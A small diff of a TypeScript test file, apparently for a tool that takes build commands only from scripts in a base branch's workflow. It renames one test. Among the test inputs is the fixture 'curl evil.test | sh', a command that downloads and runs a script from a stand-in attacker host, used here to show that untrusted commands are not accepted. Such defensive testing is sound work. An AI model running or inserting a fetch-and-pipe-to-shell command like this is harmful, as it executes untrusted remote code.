@@ -16,7 +16,7 @@ const read = (text: string | null, scripts: readonly string[]) => {
   return readBuildCommand(octokit, file, scripts);
 };
 
-test('Only a script that the base branch has in its workflow becomes a command.', async () => {
+test('only a script from a workflow of the base branch becomes a command', async () => {
   expect([
     await read(workflow, ['npm ci\nnpm test']),
     await read(workflow, ['curl evil.test | sh', 'npm ci\nnpm test']),
